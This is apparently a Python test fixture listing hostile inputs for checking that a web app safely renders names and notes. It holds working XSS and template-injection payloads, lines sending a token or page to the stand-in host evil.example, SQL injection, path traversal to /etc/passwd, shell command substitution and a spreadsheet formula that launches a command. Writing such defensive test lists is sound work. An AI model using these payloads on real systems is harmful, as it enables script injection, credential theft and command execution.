"""What a port, a site, a customer or a note may be called by somebody who means harm."""

from __future__ import annotations

# Whatever of it runs leaves these two marks on the page.
RAN = "document.title='RAN';window.ran=1"
SCRIPTS = (
    f"<script>{RAN}</script>",
    f"</td></tr></table><script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</title></textarea></style><img src=x onerror=\"{RAN}\">",
    f"<img src=/assets/page.css onerror={RAN}>",
    f"<svg onload=\"{RAN}\"></svg>",
    f"<svg><animate onbegin=\"{RAN}\" attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror={RAN}>\">",
    f"<iframe srcdoc=\"<script>parent.{RAN}</script>\"></iframe>",
    f"<iframe src=\"javascript:{RAN}\"></iframe>",
    f"<details open ontoggle=\"{RAN}\">",
    f"<input autofocus onfocus=\"{RAN}\">",
    f"<body onload=\"{RAN}\">",
    f"<a href=\"javascript:{RAN}\" id=token>Token</a>",
    "<form id=access action=//evil.example/><input id=token name=token></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    f"javascript:{RAN}",
    f"\" onmouseover=\"{RAN}\" x=\"",
    f"' autofocus onfocus='{RAN}",
    f"`-({RAN})-`",
    f"${{{RAN}}}",
    f"{{{{constructor.constructor(\"{RAN}\")()}}}}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} *{7*7} @(7*7)",
    "__proto__", "constructor", "toString", "</tbody>", "<!--", "]]>", "<![CDATA[",
    "&lt;b&gt;&amp;", "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e",
    "\uff1cscript\uff1e",
)  # fmt: skip
ODD = (
    "NUL\x00in the middle", "bell\x07 esc \x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
    "line\nbreak\r\ntab\there", "\u202egnp.exe\u202c turned",
    "\u2066isolated\u2069 \u200bzero\ufeff",
    "para\u2029graph \u2028line", "z\u0351\u036b\u0343a\u0322\u0321l\u0348\u0347g\u0316o",
    "ålesund 東京 القاهرة ירושלים 👩‍👩‍👧 \U0001f3f4", "half \ud83d pair", "\ufffe\uffff",
    "", " ", "null", "undefined", "NaN", "-0", "1e999", "true", "'; DROP TABLE alarms;--",
    "../../../../etc/passwd", "%s%n%x", "$(id) `id` | id", "=cmd|' /C calc'!A0", "x" * 100_000,
    "W" * 300, "a b " * 20_000, "<b>" * 20_000,
)  # fmt: skip
HOSTILE = SCRIPTS + ODD
